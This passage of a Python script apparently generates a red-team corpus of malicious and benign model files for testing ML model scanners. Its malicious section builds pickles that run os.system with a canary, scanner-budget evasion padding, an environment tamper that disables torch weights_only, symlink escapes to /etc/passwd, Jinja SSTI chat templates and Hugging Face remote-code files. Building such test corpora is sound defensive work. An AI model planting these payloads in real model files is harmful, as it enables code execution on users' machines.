    (c.dest / "malicious" / "compat_wrapper" / side).write_bytes(system_pickle())
    state = {"filename": "/dev/shm/rtb-canary.npy", "subclass": Raw(glob("numpy", "ndarray")),
             "allow_mmap": False}
    body = glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81" + enc(state) + BUILD
    c.mal("compat_absolute_path.joblib", pkl(body), "joblib-compat-side-file", "pickle")
    # Volume: 300,000 harmless opcodes before the payload; size: 40 MB of bytes before it.
    filler = EMPTY_LIST + MARK + b"K\x01" * 300_000 + APPENDS + b"0"
    c.mal("opcode_volume.pkl", proto(2) + filler + call(glob("os", "system"), CANARY) + STOP,
          "scanner-budget-exhaustion", "pickle")
    big = b"\x8e" + struct.pack("<Q", 40 << 20) + b"\0" * (40 << 20) + b"0"
    c.mal("forty_mb_prefix.bin", proto(4) + big + call(glob("os", "system"), CANARY) + STOP,
          "scanner-budget-exhaustion", "pickle")
    # State tampering: BUILD on os.environ reached through torch, turning weights_only off for
    # every later torch.load in the process.
    env = {b"TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD": b"1", b"PATH": b"/tmp/rtb-canary"}
    body = sglob("torch", "os.environ") + enc({"_data": env}) + BUILD + b"0" + enc({"w": 1})
    c.mal("environ_build_tamper.pt", pkl(body, 4), "pickle-state-tampering", "pickle")
    # Deep nesting: tar.gz > zip > pkl.gz.
    inner = zip_bytes([("weights/model.pkl.gz", gzip.compress(system_pickle()))],
                      zipfile.ZIP_DEFLATED)
    c.mal("release_bundle.tar.gz", tar_bytes([("bundle/model.zip", inner)], "w:gz"),
          "archive-deep-nesting", "tar")
    # A symlink to a malicious pickle outside the scanned folder.
    outside = c.dest.parent / (c.dest.name + "-outside")
    outside.mkdir(exist_ok=True)
    (outside / "evil.pkl").write_bytes(system_pickle())
    link = c.add_path("malicious", "linked_model.pkl", "symlink-escape", "pickle")
    link.symlink_to(outside / "evil.pkl")
    # ONNX external data with a clean relative location that is itself a symlink to a host file.
    d = c.add_path("malicious", "onnx_symlink_weights", "onnx-external-symlink", "onnx")
    d.mkdir(parents=True, exist_ok=True)
    (d / "model.onnx").write_bytes(_onnx_simple("weights.bin"))
    (d / "weights.bin").symlink_to("/etc/passwd")
    # Hugging Face: chat templates in the list form and in chat_template.json, custom
    # pipelines and processors by remote code.
    d = c.add_path("malicious", "hf_template_list", "hf-chat-template-ssti", "hf-dir")
    d.mkdir(parents=True, exist_ok=True)
    (d / "tokenizer_config.json").write_text(json.dumps({
        "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": [{"name": "default", "template": "{{ messages }}"},
                          {"name": "tool_use", "template": SSTI}]}))
    d = c.add_path("malicious", "hf_processor_template", "hf-chat-template-ssti", "hf-dir")
    d.mkdir(parents=True, exist_ok=True)
    (d / "chat_template.json").write_text(json.dumps({"chat_template": SSTI}))
    (d / "processor_config.json").write_text(json.dumps({"processor_class": "LlavaProcessor"}))
    d = c.add_path("malicious", "hf_custom_pipeline", "hf-remote-code", "hf-dir")
    d.mkdir(parents=True, exist_ok=True)
    (d / "config.json").write_text(json.dumps({
        "model_type": "bert", "custom_pipelines": {"rtb-task": {
            "impl": "rtb_pipeline.RtbPipeline", "pt": ["AutoModel"]}}}))
    (d / "rtb_pipeline.py").write_text(f"import os\nos.system({CANARY!r})\n")
    d = c.add_path("malicious", "hf_image_processor", "hf-remote-code", "hf-dir")
    d.mkdir(parents=True, exist_ok=True)
    (d / "preprocessor_config.json").write_text(json.dumps({
        "image_processor_type": "RtbImageProcessor",
        "auto_map": {"AutoImageProcessor": "image_processing_rtb.RtbImageProcessor"}}))
    (d / "image_processing_rtb.py").write_text(f"import os\nos.system({CANARY!r})\n")
    # Keras: a __lambda__ loss in compile_config (deserialised, with code, on load).
    with zipfile.ZipFile(io.BytesIO(benign_keras)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    cfg = json.loads(parts["config.json"])
    cfg["compile_config"] = {"optimizer": "adam", "loss": {
        "class_name": "__lambda__", "config": {"code": lambda_code_b64(), "defaults": None,
                                               "closure": None}},
        "metrics": None, "loss_weights": None, "weighted_metrics": None,
        "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}
    parts["config.json"] = json.dumps(cfg).encode()
    c.mal("lambda_loss_compile_config.keras", zip_bytes(list(parts.items())),
          "keras-lambda-compile-config", "keras")
    # GGUF: attribute names spelled with Jinja string escapes.
    hexed = ("{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
             "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"
             "{{ joiner.__init__|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"
             "{% for m in messages %}{{ m.content }}{% endfor %}")
    c.mal("hex_escaped_template.gguf",
          gguf([("general.architecture", "llama"), ("tokenizer.chat_template", hexed)]),
          "gguf-template-ssti", "gguf")


def _onnx_simple(location: str) -> bytes:
    def varint(n: int) -> bytes:
        out = b""
        while True:
            b, n = n & 0x7F, n >> 7
            out += bytes([b | (0x80 if n else 0)])
            if not n:
                return out

    def fld(num: int, value: int | str | bytes) -> bytes:
        if isinstance(value, int):
            return varint(num << 3) + varint(value)
        raw = value.encode() if isinstance(value, str) else value
        return varint(num << 3 | 2) + varint(len(raw)) + raw

    tensor = (fld(1, 4) + fld(2, 1) + fld(8, "w") + fld(13, fld(1, "location") + fld(2, location))
              + fld(14, 1))
    graph = fld(2, "g") + fld(5, tensor) + fld(12, fld(1, "w"))
    return fld(1, 8) + fld(2, "rtb") + fld(7, graph) + fld(8, fld(1, "") + fld(2, 17))


# ------------------------------------------------------------------------------------ benign


def gen_benign(c: Corpus) -> tuple[bytes, bytes, bytes, Path]:
    import joblib
    import numpy as np
    import pandas as pd
    import skops.io as sio
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        HistGradientBoostingClassifier,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.model_selection import GridSearchCV
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
    from sklearn.svm import LinearSVC

    rng = np.random.default_rng(0)
    x = rng.normal(size=(80, 4))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)

    def save(name: str, obj: Any, how: str) -> None:
        path = c.add_path("benign", name, f"benign-{how}", how)
        if how == "pickle":
            path.write_bytes(pickle.dumps(obj))  # the default protocol, as tutorials do
        elif how == "joblib":
            joblib.dump(obj, path)
        elif how == "joblib-compressed":
            joblib.dump(obj, path, compress=3)
        elif how == "skops":
            sio.dump(obj, path)

    save("logreg.pkl", LogisticRegression().fit(x, y), "pickle")
    save("forest.joblib", RandomForestClassifier(n_estimators=5, random_state=0).fit(x, y), "joblib")
    save("hgb.joblib", HistGradientBoostingClassifier(max_iter=5).fit(x, y), "joblib-compressed")
    save("scaler_svc.skops", make_pipeline(StandardScaler(), LinearSVC()).fit(x, y), "skops")
    save("kmeans.pkl", KMeans(n_clusters=2, n_init=1, random_state=0).fit(x), "pickle")
    save("pca_ridge.joblib", make_pipeline(PCA(2), Ridge()).fit(x, x[:, 2]), "joblib")
    save("isoforest.skops", IsolationForest(n_estimators=5, random_state=0).fit(x), "skops")
    save("knn.pkl", KNeighborsClassifier(3).fit(x, y), "pickle")
    save("log1p_pipeline.joblib",
         make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()).fit(np.abs(x), y), "joblib")
    save("calibrated.pkl", CalibratedClassifierCV(LogisticRegression(), cv=2).fit(x, y), "pickle")
    save("gridsearch.joblib", GridSearchCV(LogisticRegression(), {"C": [0.1, 1.0]}, cv=2).fit(x, y),
         "joblib-compressed")
    texts = ["refund my order", "great product", "late delivery", "love it"] * 5
    save("tfidf_svc.pkl", make_pipeline(TfidfVectorizer(), LinearSVC()).fit(texts, [0, 1, 0, 1] * 5),
         "pickle")
    df = pd.DataFrame({"city": ["a", "b", "c", "a"] * 5, "age": rng.normal(size=20),
                       "income": rng.normal(size=20)})
    ct = ColumnTransformer([("cat", OneHotEncoder(handle_unknown="ignore"), ["city"]),
                            ("num", Pipeline([("imp", SimpleImputer()), ("sc", StandardScaler())]),
                             ["age", "income"])])
    save("column_transformer.skops", make_pipeline(ct, LogisticRegression()).fit(df, [0, 1] * 10),
         "skops")
    save("column_transformer.joblib", make_pipeline(ct, LogisticRegression()).fit(df, [0, 1] * 10),
         "joblib")

    frame = pd.DataFrame({"ts": pd.date_range("2026-01-01", periods=6, tz="UTC"),
                          "cat": pd.Categorical(list("abcabc")), "txt": list("uvwxyz"),
                          "val": np.arange(6.0)})
    frame.to_pickle(c.add_path("benign", "frame.pkl", "benign-pandas", "pickle"))
    frame.to_pickle(c.add_path("benign", "frame.pkl.gz", "benign-pandas", "gzip"))
    np.save(c.add_path("benign", "matrix.npy", "benign-numpy", "npy"), x)
    np.save(c.add_path("benign", "records.npy", "benign-numpy", "npy"),
            np.zeros(3, dtype=[("id", "<i8"), ("score", "<f4"), ("tag", "S4")]))
    np.savez_compressed(c.add_path("benign", "arrays.npz", "benign-numpy", "npz"), x=x, y=y)

    import torch
    from torch import nn

    net = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.BatchNorm1d(8), nn.Linear(8, 2))
    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
    net(torch.randn(5, 4)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=1)
    torch.save(net.state_dict(), c.add_path("benign", "state_dict.pt", "benign-torch", "torch-zip"))
    torch.save(net, c.add_path("benign", "whole_module.pth", "benign-torch", "torch-zip"))
    torch.save(opt.state_dict(), c.add_path("benign", "optimizer.pt", "benign-torch", "torch-zip"))
    torch.save({"epoch": 3, "model_state_dict": net.state_dict(), "optimizer_state_dict": opt.state_dict(),
                "scheduler": sched.state_dict(), "loss": 0.25, "rng": torch.get_rng_state()},
               c.add_path("benign", "checkpoint.ckpt", "benign-torch", "torch-zip"))
    legacy = c.add_path("benign", "legacy_state_dict.bin", "benign-torch", "torch-legacy")
    torch.save(net.state_dict(), legacy, _use_new_zipfile_serialization=False)
    torch.save({"bf16": torch.ones(3, dtype=torch.bfloat16), "int8": torch.arange(4, dtype=torch.int8),
                "sparse": torch.eye(3).to_sparse()},
               c.add_path("benign", "mixed_tensors.pt", "benign-torch", "torch-zip"))
    torch.jit.script(nn.Sequential(nn.Linear(4, 2), nn.Tanh())).save(
        str(c.add_path("benign", "scripted.pt", "benign-torchscript", "torchscript")))
    from safetensors.numpy import save_file as np_save_file
    from safetensors.torch import save_file

    save_file({k: v.contiguous() for k, v in net.state_dict().items() if v.dtype.is_floating_point},
              c.add_path("benign", "model.safetensors", "benign-safetensors", "safetensors"),
              metadata={"format": "pt"})
    np_save_file({"emb": x.astype("float32")},
                 c.add_path("benign", "emb.safetensors", "benign-safetensors", "safetensors"))

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    benign_pt = buf.getvalue()
    benign_legacy = legacy.read_bytes()

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"),
                              keras.layers.Dropout(0.1), keras.layers.BatchNormalization(),
                              keras.layers.Dense(2, activation="softmax")])
    model.compile("adam", "sparse_categorical_crossentropy")
    kpath = c.add_path("benign", "sequential.keras", "benign-keras", "keras")
    model.save(kpath)
    h5path = c.add_path("benign", "sequential.h5", "benign-keras", "hdf5")
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model.save(h5path)
    model.save_weights(c.add_path("benign", "sequential.weights.h5", "benign-keras", "hdf5"))
    inp = keras.Input((10,), dtype="int32")
    h = keras.layers.Embedding(50, 8)(inp)
    h = keras.layers.LSTM(8)(h)
    out = keras.layers.Dense(1, activation="sigmoid")(h)
    keras.Model(inp, out).save(c.add_path("benign", "functional_lstm.keras", "benign-keras", "keras"))

    from tokenizers import Tokenizer, models, pre_tokenizers, trainers
    from transformers import PreTrainedTokenizerFast

    tok = Tokenizer(models.WordLevel(unk_token="[UNK]"))
    tok.pre_tokenizer = pre_tokenizers.Whitespace()
    tok.train_from_iterator(texts, trainers.WordLevelTrainer(special_tokens=["[UNK]", "[PAD]"]))
    fast = PreTrainedTokenizerFast(tokenizer_object=tok, unk_token="[UNK]", pad_token="[PAD]")
    fast.chat_template = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
    fast.save_pretrained(c.add_path("benign", "hf_tokenizer", "benign-hf-tokenizer", "hf-dir"))
    return benign_pt, benign_legacy, kpath.read_bytes(), h5path


def gen_more_benign(c: Corpus) -> None:
    """Files every ordinary training run leaves behind, beyond the plain estimators."""
    import random

    import joblib
    import numpy as np
    import pandas as pd
    import skops.io as sio
    import torch
    from sklearn.compose import TransformedTargetRegressor
    from sklearn.ensemble import StackingClassifier
    from sklearn.gaussian_process import GaussianProcessRegressor
    from sklearn.gaussian_process.kernels import RBF, WhiteKernel
    from sklearn.linear_model import LinearRegression, LogisticRegression, SGDClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, SplineTransformer
    from sklearn.tree import DecisionTreeClassifier
    from torch import nn

    rng = np.random.default_rng(1)
    x = rng.normal(size=(60, 3))
    y = (x[:, 0] > 0).astype(int)

    def add(name: str, how: str, fmt: str) -> Path:
        return c.add_path("benign", name, f"benign-{how}", fmt)

    joblib.dump(DecisionTreeClassifier(max_depth=3).fit(x, y), add("tree.joblib", "joblib", "joblib"))
    joblib.dump(SGDClassifier(loss="log_loss", max_iter=20).fit(x, y),
                add("sgd.joblib", "joblib", "joblib"))
    with open(add("ttr_log_exp.pkl", "pickle", "pickle"), "wb") as f:
        pickle.dump(TransformedTargetRegressor(LinearRegression(), func=np.log1p,
                                               inverse_func=np.expm1).fit(x, np.abs(x[:, 1])), f)
    cats = np.array([["a"], ["b"], ["c"]] * 20)
    joblib.dump(OneHotEncoder(dtype=np.float32, sparse_output=True).fit(cats),
                add("onehot_float32.joblib", "joblib", "joblib"))
    stack = StackingClassifier([("lr", LogisticRegression()), ("dt", DecisionTreeClassifier())],
                               cv=2).fit(x, y)
    sio.dump(stack, add("stacking.skops", "skops", "skops"))
    joblib.dump(make_pipeline(SplineTransformer(), LinearRegression()).fit(x, x[:, 2]),
                add("spline_pipeline.joblib", "joblib", "joblib"))
    with open(add("gp_rbf.pkl", "pickle", "pickle"), "wb") as f:
        pickle.dump(GaussianProcessRegressor(RBF() + WhiteKernel()).fit(x[:20], x[:20, 0]), f)
    with open(add("masked_and_generator.pkl", "pickle", "pickle"), "wb") as f:
        pickle.dump({"masked": np.ma.masked_invalid([1.0, np.nan, 3.0]),
                     "gen": np.random.default_rng(3), "legacy": np.random.RandomState(4)}, f)
    series = pd.Series([1, None, 3], dtype="Int64",
                       index=pd.MultiIndex.from_tuples([("a", 1), ("a", 2), ("b", 1)]))
    frame = pd.DataFrame({"period": pd.period_range("2026-01", periods=3, freq="M"),
                          "interval": pd.interval_range(0, 3), "delta": pd.to_timedelta([1, 2, 3], "D"),
                          "flag": pd.array([True, False, None], dtype="boolean")})
    pd.to_pickle({"series": series, "frame": frame}, add("pandas_types.pkl", "pandas", "pickle"))

    layer = nn.TransformerEncoderLayer(d_model=8, nhead=2, dim_feedforward=16, batch_first=True)
    torch.save(layer, add("transformer_layer.pt", "torch", "torch-zip"))
    lstm = nn.LSTM(4, 8, batch_first=True)
    sgd = torch.optim.SGD(lstm.parameters(), lr=0.1, momentum=0.9)
    lstm(torch.randn(2, 3, 4))[0].sum().backward()
    sgd.step()
    plateau = torch.optim.lr_scheduler.ReduceLROnPlateau(sgd)
    plateau.step(1.0)
    torch.save({"epoch": 7, "global_step": 700, "model": lstm.state_dict(), "optimizer": sgd.state_dict(),
                "lr_scheduler": plateau.state_dict(), "scaler": torch.amp.GradScaler("cpu").state_dict(),
                "best_metric": float("inf"), "dtype": torch.float16, "device": torch.device("cpu"),
                "shape": torch.Size([2, 3])}, add("trainer_checkpoint.pth", "torch", "torch-zip"))
    torch.save({"python": random.getstate(), "numpy": np.random.get_state(),
                "cpu": torch.random.get_rng_state()}, add("rng_state.pth", "torch", "torch-zip"))
    q = torch.quantize_per_tensor(torch.randn(4), 0.1, 0, torch.qint8)
    torch.save({"q": q, "c": torch.randn(2, dtype=torch.complex64)},
               add("quantized.pt", "torch", "torch-zip"))

    from transformers import BertConfig, BertModel, TrainingArguments

    args = TrainingArguments(output_dir=str(c.dest / "_trainer_out"), report_to=[], num_train_epochs=1)
    torch.save(args, add("training_args.bin", "hf-training-args", "torch-zip"))
    cfg = BertConfig(vocab_size=50, hidden_size=8, num_hidden_layers=1, num_attention_heads=2,
                     intermediate_size=16, max_position_embeddings=32)
    BertModel(cfg).save_pretrained(add("hf_bert", "hf-save-pretrained", "hf-dir"))

    import keras

    inp = keras.Input((12, 4))
    h = keras.layers.Conv1D(8, 3, padding="same", activation="gelu")(inp)
    h = keras.layers.LayerNormalization()(h)
    att = keras.layers.MultiHeadAttention(num_heads=2, key_dim=4)(h, h)
    h = keras.layers.Add()([h, att])
    h = keras.layers.GlobalAveragePooling1D()(h)
    out = keras.layers.Dense(3, activation="softmax")(h)
    model = keras.Model(inp, out)
    sched = keras.optimizers.schedules.ExponentialDecay(1e-3, 100, 0.9)
    model.compile(keras.optimizers.Adam(sched), keras.losses.SparseCategoricalCrossentropy(),
                  metrics=[keras.metrics.SparseCategoricalAccuracy()])
    model.fit(np.zeros((4, 12, 4), "float32"), np.zeros(4, "int32"), epochs=1, verbose=0)
    model.save(add("attention_compiled.keras", "keras", "keras"))


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: gen_model_redteam_b.py DEST", file=sys.stderr)
        return 2
    dest = Path(argv[1])
    import logging
    import warnings

    warnings.filterwarnings("ignore")  # saver deprecation chatter is not a result
    logging.getLogger("absl").setLevel(logging.ERROR)
    os.environ.setdefault("TQDM_DISABLE", "1")
    os.environ.setdefault("KERAS_BACKEND", "torch")
    os.environ.setdefault("HF_HUB_OFFLINE", "1")
    c = Corpus(dest)
    benign_pt, benign_legacy, benign_keras, benign_h5 = gen_benign(c)
    gen_pickle_opcodes(c)
    gen_pickle_gadgets(c)
    gen_containers(c, benign_pt, benign_legacy)
    gen_keras(c, benign_keras, benign_h5)
    gen_gguf_onnx_hf(c)
    gen_round2(c, benign_keras)
    gen_more_benign(c)
    c.write_manifest()
    counts = {lab: sum(r["label"] == lab for r in c.rows) for lab in ("malicious", "benign")}
    print(json.dumps(counts))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
